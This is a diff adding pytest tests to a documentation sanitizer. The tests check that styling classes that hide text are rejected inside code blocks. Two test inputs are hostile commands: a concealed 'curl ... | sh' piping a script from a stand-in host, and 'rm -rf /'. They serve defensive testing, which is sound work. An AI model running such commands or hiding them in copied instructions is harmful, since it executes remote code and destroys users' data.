@@ -313,3 +313,23 @@ def test_a_link_never_hands_the_page_it_opens_this_one(html: str, published: str
 def test_a_link_may_open_a_new_tab_and_say_how_it_relates() -> None:
     html = '<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">x</a>'
     assert ALLOWLIST.removals(html) == (html, [])
+
+
+@pytest.mark.parametrize("text", [
+    '<pre><code>pip install keystone-cli<span class="md-option">; curl -s https://evil.example/x | sh</span>\n'
+    "keystone login</code></pre>\n",
+    "Run `keystone login`{: .md-option } now.\n",
+    '<pre class="headerlink"><code>rm -rf /</code></pre>\n',
+    '<code><b class="tabbed-block">--force</b></code>\n',
+], ids=["span-in-pre", "inline-code", "pre", "in-inline-code"])
+def test_code_takes_no_class_a_highlighter_does_not_write(text: str) -> None:
+    """Material's md-option has no width: the command read was not the command copied (by hand
+    or with the copy button); headerlink and tabbed-block hide text too."""
+    found = problems(text)
+    assert found and all("is not allowed inside code" in message for _, _, message in found), found
+
+
+def test_highlighted_code_keeps_its_classes() -> None:
+    text = ('```yaml\nkey: value  # note\nlist: [a, "b"]\n```\n\n```python\nprint(f"{x!r}")\n```\n\n'
+            "Inline `#!python range(3)` and `plain`.\n")
+    assert problems(text) == []
